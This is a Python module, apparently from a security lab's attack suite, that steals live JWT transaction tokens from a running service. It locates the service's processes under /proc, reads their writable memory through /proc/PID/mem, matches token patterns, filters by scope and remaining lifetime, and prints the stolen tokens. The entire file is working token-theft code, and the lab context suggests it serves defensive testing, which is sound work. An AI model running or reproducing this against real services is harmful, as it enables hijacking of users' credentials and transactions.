"""The thief's first process: reads transaction tokens out of the memory of the service it sits in.

`python -m meshwarden.lab.attacks.looter MODULE --scope SCOPE... --within S`, started as the
service's user. It finds the service's process by the module that it runs, reads what that may write
to (/proc/PID/mem, as a debugger does) and looks for tokens that still live. Each that it takes is a
JSON line on stdout. Standard library only.
"""

import argparse
import base64
import json
import os
import re
import sys
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, Final

LIVES_S: Final = 15
"""How long a token must have to live: until it is presented, some seconds long."""

_TOKEN: Final = re.compile(
    rb"(?<![\w-])eyJ[\w-]{20,400}\.eyJ[\w-]{40,6000}\.[\w-]{86,700}(?![\w-])"
)
_TYPE: Final = "txntoken+jwt"
_PIECE: Final = 4 << 20
_OVERLAP: Final = 8 << 10
_LOOK_S: Final = 0.5


def main(arguments: Sequence[str]) -> int:
    """Print a token for each scope; exit code 1 where not all were found in time."""
    parser = argparse.ArgumentParser(prog="looter")
    parser.add_argument("module", help="what the service runs")
    parser.add_argument("--scope", action="append", required=True)
    parser.add_argument("--within", type=float, required=True)
    options = parser.parse_args(arguments)
    end = time.monotonic() + options.within
    while True:
        found = search(options.module, options.scope)
        if len(found) == len(options.scope):
            break
        if time.monotonic() > end:
            missing = ", ".join(one for one in options.scope if one not in found)
            _say(f"no live token for {missing} in the memory of {options.module}")
            return 1
        time.sleep(_LOOK_S)  # noqa: TID251  # customers come and go
    for token in dict.fromkeys(found.values()):
        _say(json.dumps({"token": token}))
    return 0


def search(module: str, scopes: Sequence[str]) -> dict[str, str]:
    """Return by scope the token that lives longest, of those that stand in memory most often."""
    seen: Counter[str] = Counter()
    for pid in processes_of(module):
        seen.update(tokens_in(pid))
    found = {}
    for scope in scopes:
        fitting = [one for one in seen if _lives(one) and _covers(one, scope)]
        if fitting:
            found[scope] = max(fitting, key=lambda one: (seen[one] > 1, _claims(one)["exp"]))
    return found


def _covers(token: str, scope: str) -> bool:
    return set(scope.split()) <= set(_claims(token)["scope"].split())


def processes_of(module: str) -> Iterator[int]:
    """Yield the processes, this one not among them, that run `module`."""
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            words = (folder / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        runs = words[words.index(b"-m") + 1] if b"-m" in words else b""
        if runs == module.encode() and int(folder.name) != os.getpid():
            yield int(folder.name)


def tokens_in(pid: int) -> Iterator[str]:
    """Yield what looks like a transaction token in the memory of `pid`, as often as it is there."""
    try:
        with Path(f"/proc/{pid}/mem").open("rb", buffering=0) as memory:
            for begin, end in _writable(pid):
                for place in range(begin, end, _PIECE):
                    octets = _read(memory.fileno(), place, min(_PIECE + _OVERLAP, end - place))
                    for match in _TOKEN.finditer(octets):
                        if _is_transaction_token(text := match[0].decode()):
                            yield text
    except OSError as error:
        _say(f"the memory of process {pid} cannot be read: {error.strerror}")


def _writable(pid: int) -> Iterator[tuple[int, int]]:
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        fields = line.split()
        of_a_file = len(fields) > 5 and not fields[5].startswith("[")
        if fields[1].startswith("rw") and not of_a_file:
            begin, _, end = fields[0].partition("-")
            yield int(begin, 16), int(end, 16)


def _read(memory: int, place: int, length: int) -> bytes:
    try:
        return os.pread(memory, length, place)
    except OSError:  # given back meanwhile
        return b""


def _is_transaction_token(text: str) -> bool:
    try:
        return bool(_part(text, 0)["typ"] == _TYPE and {"exp", "scope"} <= _claims(text).keys())
    except (ValueError, KeyError, TypeError, AttributeError):
        return False


def _say(line: str) -> None:
    sys.stdout.write(f"{line}\n")
    sys.stdout.flush()


def _lives(token: str) -> bool:
    return bool(_claims(token)["exp"] >= time.time() + LIVES_S)  # noqa: TID251  # his own clock


def _claims(token: str) -> dict[str, Any]:
    return _part(token, 1)


def _part(token: str, place: int) -> dict[str, Any]:
    raw = token.split(".")[place]
    found: dict[str, Any] = json.loads(base64.urlsafe_b64decode(raw + "=" * (-len(raw) % 4)))
    return found


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
